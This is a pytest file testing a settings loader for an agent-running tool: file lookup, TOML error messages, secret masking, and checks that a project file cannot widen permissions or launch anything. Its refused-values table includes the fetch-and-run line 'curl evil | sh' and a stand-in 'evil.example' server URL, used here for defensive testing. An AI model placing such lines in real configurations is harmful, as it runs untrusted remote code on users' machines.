"""The settings: what a file may have, what is wrong with it, and what a project cannot do."""

import json
import os
import re
from pathlib import Path

import jsonschema_rs
import msgspec
import pytest

from twofold.errors import LocalError
from twofold.host import settings
from twofold.host.client_keys import ACTIONS, DEFAULTS, ENTER
from twofold.host.settings import Settings, SettingsError, load, project_path, schema, user_path
from twofold.policy import Policy, Subject, parse_rule
from twofold.wire import v2
from twofold.wire.shared import EnvVariable, HttpHeader


@pytest.fixture
def home(tmp_path: Path) -> Path:
    """A home directory with a project in a Git repository."""
    (tmp_path / "project" / ".git").mkdir(parents=True)
    (tmp_path / "project" / "deep" / "er").mkdir(parents=True)
    return tmp_path


def loaded(home: Path, user: str = "", project: str | None = None) -> Settings:
    (home / "settings.toml").write_text(user, encoding="utf-8")
    if project is not None:
        (home / "project" / ".twofold.toml").write_text(project, encoding="utf-8")
    return load(home / "project", {"TWOFOLD_SETTINGS": str(home / "settings.toml")})


def decision(made: Settings, subject: Subject, *before: str) -> str:
    rules = [parse_rule(each, "allow") for each in before]
    return Policy([*rules, *made.rules]).decide(subject).decision


# ---- where the files are -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("environ", "path"),
    [
        ({"HOME": "/home/ada"}, "/home/ada/.config/twofold/settings.toml"),
        ({"HOME": "/h", "XDG_CONFIG_HOME": "/etc/x"}, "/etc/x/twofold/settings.toml"),
        ({"HOME": "/h", "XDG_CONFIG_HOME": "x"}, "/h/.config/twofold/settings.toml"),
        ({"HOME": "/h", "XDG_CONFIG_HOME": ""}, "/h/.config/twofold/settings.toml"),
        ({"HOME": "/h", "TWOFOLD_SETTINGS": "mine.toml"}, "mine.toml"),
    ],
)
def test_the_file_of_the_user_is_in_the_config_directory(
    environ: dict[str, str], path: str
) -> None:
    assert user_path(environ) == Path(path)


def test_without_files_every_value_is_the_default(tmp_path: Path) -> None:
    made = load(tmp_path, {"HOME": str(tmp_path)})
    assert made.values == settings.SettingsFile()
    assert (made.rules, made.warnings, made.project_file) == ((), (), None)
    assert {each.origin for each in settings.shown(made)} == {"default"}


def test_a_file_that_is_named_has_to_be_there(tmp_path: Path) -> None:
    with pytest.raises(SettingsError, match="TWOFOLD_SETTINGS names no file"):
        load(tmp_path, {"TWOFOLD_SETTINGS": str(tmp_path / "none.toml")})


def test_the_nearest_project_file_up_to_the_root_of_the_repository_counts(home: Path) -> None:
    deep = home / "project" / "deep" / "er"
    (home / ".twofold.toml").touch()
    assert project_path(deep) is None  # it is outside of the repository
    (home / "project" / ".twofold.toml").touch()
    assert project_path(deep) == home / "project" / ".twofold.toml"
    (home / "project" / "deep" / ".twofold.toml").touch()
    assert project_path(deep) == home / "project" / "deep" / ".twofold.toml"


def test_outside_of_a_repository_only_the_directory_itself_counts(tmp_path: Path) -> None:
    (tmp_path / "a").mkdir()
    (tmp_path / ".twofold.toml").touch()
    assert project_path(tmp_path / "a") is None
    assert project_path(tmp_path) == tmp_path / ".twofold.toml"


# ---- what is wrong with a file -----------------------------------------------------------------

WRONG = {
    'theme = "drak"': (1, "theme must be 'auto', 'dark' or 'light', not 'drak'."),
    "\n\nthem = 1": (3, "the settings have no key 'them'. Did you mean 'theme'?"),
    "zzz = 1": (
        1,
        (
            "the settings have no key 'zzz'. There are agent, agents, rules, mcp, keys, theme,"
            " notifications, serve, window_title, registry, trust."
        ),
    ),
    '[agents.x]\ncommnd = ["a"]': (
        2,
        "the table [agents.x] has no key 'commnd'. Did you mean 'command'?",
    ),
    "[agents.x]\ncommand = 5": (
        2,
        "agents.x.command must be a text in quotes or a list of texts, not a number.",
    ),
    '[agents.x]\ncommand = ["a", 1]': (
        2,
        "agents.x.command must be a text in quotes or a list of texts, not a list of other things.",
    ),
    "[agents.x]\ncommand = []": (2, "agents.x.command is empty; it starts with a program."),
    '[agents.x]\ncommand = "a \'b"': (
        2,
        "agents.x.command cannot be split into words: No closing quotation.",
    ),
    '[agents."a/b"]\ncommand = "a"': (1, "'a/b' is no name for an agent: use letters and -."),
    "[agents.x]\nenv = { TOKEN = 123 }": (
        2,
        "agents.x.env.TOKEN must be a text in quotes, not a number.",
    ),
    "[agents.x]\nenv = true": (2, "agents.x.env must be a table, not true or false."),
    "[agents]\nx = 1": (2, "agents.x must be a table, not a number."),
    "agents = [1]": (1, "agents must be a table, not a list of other things."),
    "[agents.x.options]\na = 1": (
        2,
        "agents.x.options.a must be a text in quotes or true or false, not a number.",
    ),
    "[rules]\nallow = 'read'": (2, "rules.allow must be a list of texts, not a text."),
    '[rules]\nreject = [\n "read",\n "path:",\n]': (
        4,
        "the rule 'path:' of reject cannot be used: nothing follows 'path:'.",
    ),
    "[mcp.a]\nargs = ['x']": (1, "mcp.a needs either a command or a url."),
    "[mcp.a]\ncommand = 'x'\nurl = 'http://x'": (1, "mcp.a needs either a command or a url."),
    "[mcp.a]\nurl = 'http://x'\nenv = {A = '1'}": (3, "env belongs to a server with a command."),
    "[mcp.a]\ncommand = 'x'\nheaders = {A = '1'}": (3, "headers belongs to a server with a url."),
    "[mcp.a]\nurl = 'ftp://x'": (2, "url must start with http:// or https://."),
    "[notifications]\nafter = 2026-01-01": (
        2,
        "notifications.after must be a number, not a date or time.",
    ),
    "[notifications]\nbell = 'no'": (2, "notifications.bell must be true or false, not a text."),
    "[serve]\nkeep = '90'": (
        2,
        "serve.keep: '90' is not understood. Write it as in 90d, 12h, 30m or 45s.",
    ),
    "[serve]\nkeep_size = '5X'": (
        2,
        "serve.keep_size: '5X' is not understood. Write it as in 10G, 500M or 64K.",
    ),
    "[serve]\nagents = 0": (2, "serve.agents must be at least 1."),
    "[serve]\nport = 99999": (2, "serve.port must be from 0 to 65535."),
    "[serve]\nqueued = 'all'": (2, "serve.queued must be a whole number, not a text."),
    "[notifications]\nafter = -1": (2, "notifications.after must not be less than 0."),
    "[notifications]\nafter = nan": (2, "notifications.after must not be less than 0."),
}


@pytest.mark.parametrize("text", WRONG)
def test_what_is_wrong_is_named_with_file_line_and_what_is_right(text: str, home: Path) -> None:
    line, reason = WRONG[text]
    with pytest.raises(SettingsError) as caught:
        loaded(home, text)
    error = caught.value
    assert isinstance(error, LocalError)
    assert (error.line, error.reason) == (line, reason)
    assert str(error) == f"{home / 'settings.toml'}, line {line}: {reason}"


@pytest.mark.parametrize(
    ("text", "line"),
    [('a = "x\nb = 1', 1), ("agent = 'a'\nagent = 'b' # x", 2), ("a = [\n1,\n", 3)],
)
def test_a_text_that_is_not_toml_is_an_error_with_its_line(
    text: str, line: int, home: Path
) -> None:
    with pytest.raises(SettingsError) as caught:
        loaded(home, text)
    assert caught.value.line == line
    assert re.fullmatch(r"this is not TOML: [^()]+\.", caught.value.reason)


def test_a_file_that_is_not_utf8_or_cannot_be_read_is_an_error(home: Path) -> None:
    file = home / "settings.toml"
    file.write_bytes(b"a = 1\nb = '\xff'")
    with pytest.raises(SettingsError, match=r"line 2: this is not UTF-8\."):
        load(home, {"TWOFOLD_SETTINGS": str(file)})
    with pytest.raises(SettingsError, match=r"it cannot be read: Is a directory\."):
        load(home, {"TWOFOLD_SETTINGS": str(home)})
    file.write_bytes(b"#" * (1024 * 1024 + 1))
    with pytest.raises(SettingsError, match="larger than 1024 KiB"):
        load(home, {"TWOFOLD_SETTINGS": str(file)})


# ---- what a project may do ---------------------------------------------------------------------

REFUSED = {
    "[rules]\nallow = ['read']": (2, "rules.allow"),
    "[agents.x]\ncommand = 'evil'": (2, "agents.x.command"),
    "[agents.claude]\nmode = 'plan'\nenv = { PATH = '.' }": (3, "agents.claude.env.PATH"),
    "[agents.claude]\ninstall = 'curl evil | sh'": (2, "agents.claude.install"),
    "[mcp.x]\ncommand = 'evil'": (2, "mcp.x.command"),
    "[mcp.x]\nurl = 'https://evil.example'": (2, "mcp.x.url"),
    "registry = 'evil.json'": (1, "registry"),
    "trust = ['/']": (1, "trust"),
    "keys = { send = 'c-s' }": (1, "keys.send"),
    "theme = 'dark'": (1, "theme"),
}


@pytest.mark.parametrize("text", REFUSED)
@pytest.mark.parametrize("trusted", [False, True])
def test_a_project_cannot_start_allow_or_send_anything(
    text: str, trusted: bool, home: Path
) -> None:
    line, key = REFUSED[text]
    with pytest.raises(SettingsError) as caught:
        loaded(home, f"trust = ['{home}']" if trusted else "", text)
    assert caught.value.line == line
    assert caught.value.reason.startswith(f"{key} is not allowed here: a project's file may only")


EVERY_KIND = [
    Subject(kind="read", paths=("/w/secret/key",)),
    Subject(kind="edit", paths=("/w/src/a.py",)),
    Subject(kind="execute", command="git push origin"),
    Subject(kind="execute", command="make test"),
]
STRICTER = {"allow": 0, "ask": 1, "reject": 2}


@pytest.mark.parametrize("user", ["", "[rules]\nallow = ['read', 'edit', 'command:*']"])
@pytest.mark.parametrize(
    "project",
    [
        "[rules]\nreject = ['path:**/secret/**']",
        "[rules]\nask = ['command:git push*', 'read']",
        "[rules]\nask = ['edit']\nreject = ['execute']",
        "agent = 'x'\n[agents.x]\nmode = 'yolo'\n[agents.x.options]\nsandbox = false",
        "",
    ],
)
def test_a_project_never_widens_what_is_allowed(user: str, project: str, home: Path) -> None:
    without = [decision(loaded(home, user), subject) for subject in EVERY_KIND]
    made = loaded(home, user, project)
    for before, subject in zip(without, EVERY_KIND, strict=True):
        assert STRICTER[decision(made, subject)] >= STRICTER[before], subject
    assert (made.values.agent, made.agent("x").mode) == (None, None)


def test_a_project_restricts_what_the_user_allows(home: Path) -> None:
    made = loaded(
        home,
        "[rules]\nallow = ['read', 'execute']",
        "[rules]\nask = ['command:git push*']\nreject = ['path:**/secret/**']",
    )
    assert [decision(made, subject) for subject in EVERY_KIND] == ["reject", "ask", "ask", "allow"]


def test_the_command_line_may_allow_what_a_file_asks_but_not_what_it_rejects(home: Path) -> None:
    made = loaded(home, "[rules]\nask = ['execute']\nreject = ['read']")
    push, read = EVERY_KIND[2], EVERY_KIND[0]
    assert decision(made, push, "execute") == "allow"
    assert decision(made, read, "read") == "reject"


def test_a_rule_names_its_file_and_line(home: Path) -> None:
    (rule,) = loaded(home, "[rules]\nallow = [\n  'read',\n]").rules
    assert rule.source == f"{home / 'settings.toml'}:3 allow read"


CHOICES = "agent = 'codex'\n[agents.claude]\nmode = 'plan'\n[agents.claude.options]\nmodel = 'b'"


def test_what_an_untrusted_project_chooses_is_ignored_with_a_warning(home: Path) -> None:
    made = loaded(home, "agent = 'claude'", CHOICES)
    assert made.values.agent == "claude"
    assert made.agent("claude") == settings.AgentSettings()
    file = home / "project" / ".twofold.toml"
    assert [each.partition(",")[0] for each in made.warnings] == [str(file)] * 3
    assert made.warnings[0] == (
        f"{file}, line 1: agent is ignored, because you do not trust this project. To use it, add"
        f" '{file.parent}' to trust in {home / 'settings.toml'}."
    )


@pytest.mark.parametrize("folder", ["", "project"])
def test_a_trusted_project_chooses_an_agent_a_mode_and_options(folder: str, home: Path) -> None:
    user = f"trust = ['{home / folder}']\n[agents.claude]\nmode = 'ask'\noptions = {{ a = 'x' }}"
    made = loaded(home, user, CHOICES)
    assert (made.values.agent, made.warnings) == ("codex", ())
    assert made.agent("claude").mode == "plan"
    assert made.agent("claude").options == {"a": "x", "model": "b"}
    assert made.origin("agents.claude.mode") == f"{home / 'project' / '.twofold.toml'}:3"
    assert made.origin("agents.claude.options.a") == f"{home / 'settings.toml'}:4"


@pytest.mark.parametrize("trust", ["proj", ".", "../project", "project"])
def test_trust_is_a_whole_directory_and_an_absolute_path(
    trust: str, home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(home / "project")
    trust = str(home / trust) if trust == "proj" else trust
    assert loaded(home, f"trust = ['{trust}']", CHOICES).values.agent is None


def test_a_project_file_that_would_never_end_is_not_read(home: Path) -> None:
    os.mkfifo(home / "project" / ".twofold.toml")
    with pytest.raises(SettingsError, match="not a regular file"):
        loaded(home)


# ---- what is in it -----------------------------------------------------------------------------

FULL = """
agent = "mine"
theme = "dark"
registry = "registry.json"
keys = { send = "c-s", unfold = ["c-o", "c-q"] }
[agents.mine]
command = "my-agent --acp 'two words'"
env = { MY_TOKEN = "hush-1" }
[mcp.files]
command = "mcp-files"
args = ["--root", "."]
env = { KEY = "hush-2" }
[mcp.web]
url = "https://ada:hush-3@mcp.example:8443/mcp?key=hush-4"
headers = { Authorization = "Bearer hush-5" }
[rules]
allow = ["read"]
"""


def test_mcp_servers_are_what_a_new_session_takes(home: Path) -> None:
    assert loaded(home, FULL).mcp_servers() == [
        v2.McpServerStdio("files", "mcp-files", ["--root", "."], [EnvVariable("KEY", "hush-2")]),
        v2.McpServerHttp(
            "web",
            "https://ada:hush-3@mcp.example:8443/mcp?key=hush-4",
            [HttpHeader("Authorization", "Bearer hush-5")],
        ),
    ]


def test_a_registry_is_beside_the_file_that_names_it(home: Path) -> None:
    assert loaded(home, FULL).registry_file == home / "registry.json"
    assert loaded(home, "registry = '/r.json'").registry_file == Path("/r.json")


def test_every_value_is_shown_with_its_origin_and_without_secrets(home: Path) -> None:
    shown = {each.key: each for each in settings.shown(loaded(home, FULL))}
    assert "hush" not in repr(shown)
    file = home / "settings.toml"
    assert shown["theme"] == settings.Shown("theme", "dark", f"{file}:3")
    assert shown["agents.mine.env.MY_TOKEN"].value == "set"
    assert shown["mcp.web.headers.Authorization"].value == "set"
    assert shown["mcp.web.url"].value == "https://mcp.example:8443/mcp"
    assert shown["rules.allow"] == settings.Shown("rules.allow", ["read"], f"{file}:17")
    assert shown["notifications.after"] == settings.Shown("notifications.after", 10.0, "default")
    assert "agents.mine.mode" not in shown


def test_the_schema_accepts_what_the_reader_accepts() -> None:
    checker = jsonschema_rs.validator_for(schema())
    accepted = msgspec.to_builtins(settings.read_file(FULL, "x").data)
    assert checker.is_valid(accepted)
    assert not checker.is_valid({"them": 1})
    assert not checker.is_valid({"theme": "drak"})
    assert not checker.is_valid({"agents": {"x": {"command": 5}}})


def test_every_key_of_the_schema_is_described() -> None:
    for name, struct in schema()["$defs"].items():
        for key, described in struct["properties"].items():
            assert "description" in described or "$ref" in json.dumps(described), (name, key)


# ---- the page ----------------------------------------------------------------------------------

PAGE = Path(__file__).resolve().parents[2] / "docs" / "settings.md"


def test_the_examples_of_the_page_are_settings(home: Path) -> None:
    full, keys, project = re.findall(
        r"^```toml\n(.*?)^```$", PAGE.read_text("utf-8"), re.MULTILINE | re.DOTALL
    )
    assert loaded(home, keys).bindings().shown("unfold") == "Ctrl-O, F5"
    made = loaded(home, full, project)
    assert made.warnings == ()
    assert len(made.rules) == 7
    values = msgspec.to_builtins(made.values)
    assert {key for key, value in values.items() if value} == set(values)  # every key is shown


def test_the_page_has_every_action_with_its_key() -> None:
    page = PAGE.read_text("utf-8")
    found = re.findall(r"^\| `([a-z-]+)` \| `([a-z0-9 -]+)` \|", page, re.MULTILINE)
    keys = {action: DEFAULTS.keys(action)[0].replace(ENTER, "enter") for action in ACTIONS}
    assert dict(found) == keys


def test_the_page_names_every_key() -> None:
    page = PAGE.read_text("utf-8")
    for key in settings.SettingsFile.__struct_fields__:
        assert re.search(rf"^\|.*`{key}[`.]", page, re.MULTILINE), key
    for key in settings.AgentSettings.__struct_fields__:
        assert f".{key}`" in page, key
